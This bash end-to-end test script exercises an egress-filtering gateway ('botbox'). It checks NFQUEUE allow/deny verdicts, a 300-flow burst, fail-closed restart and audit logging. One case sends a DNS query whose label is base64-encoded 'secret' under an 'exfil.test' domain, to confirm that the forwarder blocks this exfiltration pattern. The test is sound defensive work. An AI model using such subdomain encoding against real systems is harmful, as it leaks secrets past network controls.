#!/usr/bin/env bash
# The NFQUEUE verdict path and the DNS forwarder in the gateway topology:
# "cli" routes through "gw", where botbox serve (uid 1337, CAP_NET_ADMIN)
# judges every forwarded flow that is not steered HTTP, and answers the
# clients' DNS (redirected in prerouting to its wildcard listener).
# Forwarded packets have no local owner, so their audit lines carry no uid.
. "$(dirname "$0")/../lib.sh"

topo_gateway
UP4=10.201.3.2
UP6=fd00:201:3::2
dnsmasq_start up $UP4 api.test=$UP4 c2VjcmV0.exfil.test=$UP4
mkdir -p "$E2E_TMP/secrets"
touch "$E2E_TMP/audit.jsonl"
chown 1337:1337 "$E2E_TMP/audit.jsonl"
cat >"$E2E_TMP/gw.yaml" <<YAML
mode: gateway
gateway:
  client_interfaces: [bbc0]
workers: 1
secrets_dir: $E2E_TMP/secrets
audit:
  output: $E2E_TMP/audit.jsonl
dns:
  upstream: $UP4
egress_policy:
  rules:
    - {host: api.test, action: allow}
  flows:
    - {proto: udp, cidr: $UP4/32, ports: [123]}
    - {proto: udp, cidr: "fd00:201:3::/64", ports: [123]}
    - {proto: tcp, cidr: $UP4, ports: [5432]}
YAML
chmod a+r "$E2E_TMP/gw.yaml"
check "apply the gateway ruleset" in_ns gw "$BIN" nft apply --config "$E2E_TMP/gw.yaml"
serve_start gw "$E2E_TMP/gw.yaml"
listen up udp --proto udp --bind $UP4:123 --bind $UP4:124 --bind $UP4:9999 --bind "[$UP6]:123"
listen up tcp --bind $UP4:5432 --bind $UP4:5433 --bind $UP4:22

refute "client udp/9999 through the gateway is dropped" as_uid 1000 cli $PROBE udp $UP4 9999 --timeout 1
refute "... nothing arrived" logged udp ':9999"'
check "... audited with the client's address, no uid (forwarded)" wait_for 2 bash -c \
    "grep -F '\"dst\":\"$UP4:9999\"' $E2E_TMP/audit.jsonl | grep -F '\"src\":\"10.201.2.2:' |
     grep -F '\"decision\":\"deny\"' | grep -vqF '\"uid\"'"
check "udp/123 (a flows rule) arrives" as_uid 1000 cli $PROBE udp $UP4 123 --timeout 1
check "... over IPv6 too" as_uid 1000 cli $PROBE udp $UP6 123 --timeout 3 # first ND: slower
refute "udp/124 is dropped" as_uid 1000 cli $PROBE udp $UP4 124 --timeout 1
check "tcp/5432 (a flows rule) completes" as_uid 1000 cli $PROBE connect $UP4 5432
refute "tcp/5433 is dropped" as_uid 1000 cli $PROBE connect $UP4 5433 --timeout 1
refute "tcp/22 is dropped" as_uid 1000 cli $PROBE connect $UP4 22 --timeout 1
refute "nothing unallowed arrived" logged tcp ':(5433|22)"'

# A burst of new flows: drops go back to the kernel in batches (one message
# per read), and the allowed flows among them still pass one by one.
burst() { as_uid 1000 cli $PROBE burst $UP4 --count 300 --every 50 --port 123; }
queued() { in_ns gw awk '$1 == 25186 {print $3}' /proc/net/netfilter/nfnetlink_queue; }
arrived_123() { grep -c ':123"' "$E2E_TMP/udp.log"; }
# (The listener does not bind the others' ports, so arrivals are not the
# test for them: each of the 294 must have its own deny line.)
denied_burst() {
    grep -E "\"decision\":\"deny\".*\"dst\":\"$UP4:2[0-9]{4}\"" "$E2E_TMP/audit.jsonl" | wc -l
}
before=$(arrived_123)
check "a burst of 300 new udp flows is sent" burst
check "... every packet got its verdict: nothing stays queued" wait_for 3 eval 'test "$(queued)" = 0'
check "... the 6 allowed among them arrived" \
    wait_for 3 eval 'test "$(($(arrived_123) - before))" -eq 6'
check "... each of the 294 others was denied and audited" \
    wait_for 3 eval 'test "$(denied_burst)" -eq 294'

expect "a client's DNS query is answered by the forwarder" "$UP4" \
    as_uid 1000 cli dig +short +time=2 +tries=1 @$UP4 api.test
expect "... a name no rule allows: NXDOMAIN" "status: NXDOMAIN" \
    as_uid 1000 cli dig +time=2 +tries=1 @$UP4 c2VjcmV0.exfil.test
refute "... which the resolver never saw" grep -qi exfil "$E2E_TMP/dnsmasq.log"
check "... both audited with the client's address" wait_for 3 bash -c \
    "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -c '\"src\":\"10.201.2.2:' | grep -qx 2"

kill -KILL "$SERVE_PID"
wait "$SERVE_PID" 2>/dev/null
refute "botbox killed: udp/123 no longer passes (fail closed)" \
    as_uid 1000 cli $PROBE udp $UP4 123 --timeout 1
serve_start gw "$E2E_TMP/gw.yaml"
check "restarted: verdicts resume" wait_for 3 as_uid 1000 cli $PROBE udp $UP4 123 --timeout 0.5
serve_stop

# Another process holds the queue: the kernel refuses botbox's bind, and
# botbox must not start without its verdict path.
nfq_start gw
expect_status "queue held by another process: botbox serve refuses to start" 1 \
    "NFQUEUE $QUEUE" in_ns gw timeout 10 "$BIN" serve --config "$E2E_TMP/gw.yaml"
stop "$NFQ_PID"
finish
